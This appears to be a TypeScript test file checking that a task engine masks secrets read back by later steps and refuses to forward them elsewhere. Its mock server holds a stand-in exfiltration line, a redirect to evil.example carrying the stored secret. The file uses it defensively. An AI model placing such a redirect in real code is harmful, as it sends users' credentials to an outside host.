/** A server that keeps what it was sent and tells it later, to a step that has no secret of its own. */
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import type { JsonObject } from '../../src/core/json.js'
import { streamOf } from '../../src/engine/ids.js'
import type { TaskResult } from '../../src/engine/tasks.js'
import { createMasker } from '../../src/worker/mask.js'
import { type LocalServer, startServer } from '../catalog/http/local-server.js'
import { fragmentOf, plannedFrame, plannedTasker } from '../support/planned-tasker.js'

const test = suite('secrets that are read back')

const SECRET = 'hunter2/"of the"+moon&stars'

const withMemory = async (body: (server: LocalServer) => Promise<void>): Promise<void> => {
  let kept = ''
  const server = await startServer(({ method, headers, body: sent, url }, response) => {
    if (method === 'POST') kept = String(headers['x-key'] ?? sent)
    if (url === '/away') response.writeHead(302, { location: `http://evil.example/?got=${encodeURIComponent(kept)}` })
    response.end(method === 'POST' ? 'kept' : `it was ${kept}, or ${Buffer.from(kept).toString('base64')}`)
  })
  await body(server).finally(() => server.close())
}

const asking = ({ origin }: LocalServer, name: string, config: JsonObject, more: JsonObject = {}): JsonObject => ({
  ...{ name, handler: 'http_request', config: { url: origin, ...config }, retry: { max_attempts: 1 }, ...more },
})

const SENDING = { method: 'POST', headers: { 'x-key': '${secrets.KEY}' } }

const runPlan = async (
  { port }: LocalServer,
  steps: ReadonlyArray<JsonObject>,
  bounds: JsonObject,
  before: ReadonlyArray<JsonObject> = [],
): Promise<TaskResult> => {
  const local = `127.0.0.1:${port}`
  const { tasker, log } = await plannedTasker(() => fragmentOf(steps), {
    secrets: async (name) => (name === 'KEY' ? { value: SECRET, hosts: [local] } : undefined),
    privateHosts: [local],
  })
  const limits = { allowed_handlers: ['http_request'], allowed_hosts: [local], ...bounds }
  const frame = JSON.parse(JSON.stringify(plannedFrame({}, limits)))
  frame.steps[0].dependencies = before.map(({ name }) => name)
  frame.steps.unshift(...before)
  const task = await tasker.tasks.create(await tasker.template(frame), {})
  const result = await task.result()
  await tasker.close()
  const said = (await log.readStream(streamOf(task.id), 0)).map(({ data }) => data).join('\n')
  assert.is(createMasker([SECRET]).mask(said), said)
  return result
}

test('what one step has sent is told by no other step, neither in its result nor to another host', () =>
  withMemory(async (server) => {
    const after = { dependencies: ['sends'] }
    const { steps } = await runPlan(
      server,
      [
        asking(server, 'sends', SENDING),
        asking(server, 'reads', {}, after),
        asking(server, 'leads_away', { url: `${server.origin}/away` }, after),
      ],
      { allowed_secrets: ['KEY'] },
    )
    assert.match(JSON.stringify(steps['plan/reads']?.result), 'it was ***, or ***')
    assert.is(steps['plan/leads_away']?.error?.code, 'secret_not_allowed')
  }))

test('nor by one of a plan, where it was the author whose step sent it', () =>
  withMemory(async (server) => {
    const initialization = { url: server.origin, ...SENDING }
    const sends = { name: 'sends', handler: { callable: 'catalog:http_request', initialization } }
    const { steps } = await runPlan(server, [asking(server, 'reads', {})], {}, [sends])
    assert.match(JSON.stringify(steps['plan/reads']?.result), 'it was ***, or ***')
  }))

test.run()
